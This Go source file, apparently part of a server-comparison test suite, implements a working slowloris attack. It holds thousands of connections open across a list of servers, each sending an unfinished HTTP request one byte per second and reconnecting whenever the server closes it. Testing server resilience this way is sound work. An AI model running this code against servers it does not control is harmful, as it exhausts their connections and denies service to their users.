package compare

import (
	"context"
	"net"
	"sync"
	"time"
)

const (
	slowMax      = 20_000      // connections that an attacker holds; each takes a file descriptor
	slowInterval = time.Second // between two bytes
)

// slowRequest is what an attacker's connection sends, byte by byte; it never ends.
const slowRequest = "GET /foods HTTP/1.1\r\nHost: sale\r\nX-Slow: "

// slow is an attack by connections that send a request a byte a second ("slowloris") and are opened again
// when the server ends them.
type slow struct {
	stop    context.CancelFunc
	running sync.WaitGroup
}

// attackSlowly holds n slow connections, spread over the servers, until stop; it returns when each has been
// open once.
func attackSlowly(ctx context.Context, servers []string, n int) *slow {
	ctx, cancel := context.WithCancel(ctx)
	s := &slow{stop: cancel}
	var opened sync.WaitGroup
	for i := range n {
		opened.Add(1)
		s.running.Go(func() {
			first := sync.OnceFunc(opened.Done)
			for ctx.Err() == nil {
				dripOn(ctx, servers[i%len(servers)], first)
			}
			first()
		})
	}
	opened.Wait()
	return s
}

// dripOn opens one connection and sends byte after byte until the server ends it.
func dripOn(ctx context.Context, server string, opened func()) {
	tick := time.NewTicker(slowInterval)
	defer tick.Stop()
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", server)
	opened()
	for sent := 0; ; sent++ {
		if err == nil {
			_, err = conn.Write([]byte{slowRequest[min(sent, len(slowRequest)-1)]})
		}
		select {
		case <-tick.C: // also before the next try: an attack must not become a load
		case <-ctx.Done():
		}
		if err != nil || ctx.Err() != nil {
			break
		}
	}
	if conn != nil {
		conn.Close()
	}
}

func (s *slow) end() {
	s.stop()
	s.running.Wait()
}
